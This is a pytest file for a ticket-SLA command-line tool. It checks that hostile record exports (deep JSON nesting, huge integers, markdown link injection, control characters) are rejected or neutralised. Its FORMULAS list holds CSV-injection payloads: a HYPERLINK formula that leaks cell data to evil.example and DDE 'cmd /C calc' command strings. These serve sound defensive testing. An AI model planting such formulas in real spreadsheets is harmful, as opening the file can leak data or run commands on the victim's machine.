"""Hostile records folders: `measure`, `render --records` give a bad row or exit 2, never 3."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest
from click.testing import Result

from itsmctl.measure import records
from itsmctl.visible import spreadsheet_safe
from tests.conftest import Invoke, run_cli

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
DEEP = '{"id":"A","x":' + "[" * 100_000 + "]" * 100_000 + "}"
HUGE = '{"id":"B","x":' + "9" * 5000 + "}"  # past Python's 4300-digit int limit


def run(*args: str) -> Result:
    return run_cli(*args)


def _jsonl(tmp_path: Path) -> Path:
    folder = tmp_path / "records"
    folder.mkdir()
    (folder / "tickets.jsonl").write_text(f"{DEEP}\n{HUGE}\n", encoding="utf-8")
    return folder


def test_deep_nesting_and_huge_integers_are_bad_rows(tmp_path: Path) -> None:
    folder = _jsonl(tmp_path)
    result = run("measure", str(EXAMPLES), "--records", str(folder), "-f", "json",
                 "--max-bad-rows", "2")
    assert result.exit_code in (0, 1), result.output
    found = [(f["line"], f["message"]) for f in json.loads(result.output)["findings"]
             if f["rule"] == "record-unreadable"]
    assert [line for line, _ in found] == [1, 2]
    assert "nested too deeply" in found[0][1] and "4300 digits" in found[1][1]


@pytest.mark.parametrize("command", ["measure", "render"])
def test_a_hostile_jsonl_row_stops_the_run_with_exit_2(tmp_path: Path, command: str) -> None:
    folder = _jsonl(tmp_path)
    extra = ["-o", str(tmp_path / "site")] if command == "render" else []
    result = run(command, str(EXAMPLES), "--records", str(folder), *extra)
    assert result.exit_code == 2, result.output
    assert "tickets.jsonl:1: unreadable row" in result.output
    assert "Traceback" not in result.output


def test_to_the_last_representable_day_is_an_open_ended_window() -> None:
    records = str(EXAMPLES / "records")
    capped = run("measure", str(EXAMPLES), "--records", records, "-f", "json",
                 "--to", "9999-12-31")
    plain = run("measure", str(EXAMPLES), "--records", records, "-f", "json")
    assert capped.exit_code == plain.exit_code == 1, capped.output
    assert json.loads(capped.output)["slas"] == json.loads(plain.output)["slas"]


MARKDOWN = ("[Click here](https://evil.example/x) @larkspur/security **B**"
            " ![i](https://evil.example/p.png)")


def test_record_cells_are_inert_in_markdown_and_text(tmp_path: Path) -> None:
    folder = tmp_path / "records"
    folder.mkdir()
    (folder / "tickets.csv").write_text(
        "id,type,service,priority,opened_at,responded_at,resolved_at\n"
        f'A,incident,"{MARKDOWN}",P1,2026-11-23T09:00:00Z,,\n'
        "B,incident,legacy-erp,P\u20289\x1b[31m,2026-11-23T09:00:00Z,,\n", encoding="utf-8")
    md = run("measure", str(EXAMPLES), "--records", str(folder), "-f", "markdown").output
    line = next(x for x in md.splitlines() if x.startswith("- unknown services:"))
    assert not re.search(r"(?<!\\)[\[\]*]", line), line  # every bracket and star escaped
    assert "@larkspur" not in line and "https://" not in line  # no mention, no autolink
    assert "\\[Click here\\]" in line and "\\*\\*B\\*\\*" in line  # shown, not formatted
    text = run("measure", str(EXAMPLES), "--records", str(folder)).output
    for output in (md, text):
        assert "\u2028" not in output and "\x1b" not in output
        assert "P\\u20289\\x1b" in output.replace("\\\\", "\\")


def _ticket(ident: object) -> str:
    return json.dumps({"id": ident, "type": "incident", "service": "legacy-erp",
                       "priority": "P1", "opened_at": "2026-11-23T09:00:00Z"})


def test_a_jsonl_line_over_the_cap_is_a_bad_row_and_the_next_line_is_read(
        tmp_path: Path, invoke: Invoke, monkeypatch: pytest.MonkeyPatch) -> None:
    cap = len(_ticket("AA"))
    monkeypatch.setattr(records, "JSONL_LINE_LIMIT", cap)
    folder = tmp_path / "records"
    folder.mkdir()
    # at the cap (with either line end) is read; one over it, or far over it, is a bad row
    (folder / "tickets.jsonl").write_text(
        f"{_ticket('AA')}\r\n{_ticket('BBB')}\n{_ticket('CC')}\n{_ticket('D' * 5000)}\n"
        f"{_ticket('EE')}\n{_ticket('FFF')}", encoding="utf-8")
    result = invoke("measure", EXAMPLES, "--records", folder, "-f", "json",
                    "--max-bad-rows", "3", code=0)
    report = json.loads(result.output)
    found = [(f["line"], f["message"]) for f in report["findings"]
             if f["rule"] == "record-unreadable"]
    message = f"unreadable row: line longer than {cap:,} characters"
    assert found == [(2, message), (4, message), (6, message)]
    assert report["records"]["tickets"] == 3


@pytest.mark.parametrize(("value", "kind"), [
    (["x"], "an array"), ({"a": 1}, "an object"), (True, "a boolean"),
    (1.5, "a number with a fraction")])
def test_a_jsonl_id_that_is_not_a_string_or_integer_is_a_bad_row(
        tmp_path: Path, invoke: Invoke, value: object, kind: str) -> None:
    folder = tmp_path / "records"
    folder.mkdir()
    (folder / "tickets.jsonl").write_text(f"{_ticket(value)}\n{_ticket('A')}\n{_ticket(7)}\n",
                                          encoding="utf-8")
    report = json.loads(invoke("measure", EXAMPLES, "--records", folder, "-f", "json",
                               "--max-bad-rows", "1", code=0).output)
    found = [(f["line"], f["message"]) for f in report["findings"]
             if f["rule"] == "record-unreadable"]
    assert found == [(1, f"column id: is {kind}, not a string or integer")]
    assert report["records"]["tickets"] == 2  # "A" and the integer 7


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_per_ticket_cells_from_the_records_never_run_as_formulas(
        tmp_path: Path, invoke: Invoke, jobs: str) -> None:
    # ids come from the export; a spreadsheet opening --per-ticket would run a cell starting
    # with = + - @ as a formula, as it would in -f csv (the reader strips a leading tab)
    folder = tmp_path / "records"
    folder.mkdir()
    rows = [f'"{ident.replace(chr(34), chr(34) * 2)}",incident,payments-api,P1,'
            "2026-11-23T09:00:00Z,2026-11-23T09:10:00Z,2026-11-23T10:00:00Z"
            for ident in FORMULAS]
    rows.append("-42,incident,payments-api,P1,2026-11-23T09:00:00Z,2026-11-23T09:10:00Z,"
                "2026-11-23T10:00:00Z")
    (folder / "tickets.csv").write_text(
        "id,type,service,priority,opened_at,responded_at,resolved_at\n"
        + "\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "rows.csv"
    invoke("measure", EXAMPLES, "--records", folder, "--per-ticket", out, "--jobs", jobs,
           "-f", "json")
    with out.open(encoding="utf-8", newline="") as handle:
        cells = [row[0] for row in csv.reader(handle)][1:]
    assert sorted(set(cells)) == sorted(["'" + f for f in FORMULAS] + ["-42"])
    assert all(c[:1] not in "=+@" for c in cells)


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-30", "-30"), ("-30.5", "-30.5"), ("-30+1", "'-30+1"),
    ("-", "'-"), ("@a", "'@a"), ("\r=1", "'\r=1"), ("a=1", "a=1"), ("", "")])
def test_spreadsheet_safe_quotes_formulas_and_keeps_numbers(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written
